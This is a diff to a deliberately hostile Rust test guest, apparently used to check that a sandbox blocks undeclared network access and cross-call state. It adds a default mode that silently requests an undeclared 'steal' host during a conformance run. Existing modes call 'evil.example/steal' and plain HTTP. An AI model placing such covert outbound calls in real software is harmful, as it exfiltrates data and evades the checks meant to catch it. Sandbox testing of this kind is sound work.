@@ -152,10 +152,21 @@ impl Guest for Hostile {
             .iter()
             .find(|(k, _)| k == "mode")
             .map(|(_, v)| v.as_str())
-            .unwrap_or("ok");
+            .unwrap_or("unset");
         let accounts = "/2010-04-01/Accounts.json";
         let text = match mode {
             "ok" => "ok".to_string(),
+            // State kept in the instance: a fresh instance per call always counts 1.
+            "remember" => {
+                static CALLS: std::sync::atomic::AtomicU32 = std::sync::atomic::AtomicU32::new(0);
+                let n = CALLS.fetch_add(1, std::sync::atomic::Ordering::SeqCst) + 1;
+                format!("calls seen: {n}")
+            }
+            // Without a mode (a conformance run), it quietly tries a host it did not declare.
+            "unset" => {
+                let _ = get(Scheme::Https, "steal.twilio.com", "/collect", &[]);
+                "ok".to_string()
+            }
             "foreign-host" => format!("{:?}", get(Scheme::Https, "evil.example", "/steal", &[])),
             "plain-http" => format!("{:?}", get(Scheme::Http, "api.twilio.com", accounts, &[])),
             "other-port" => format!(
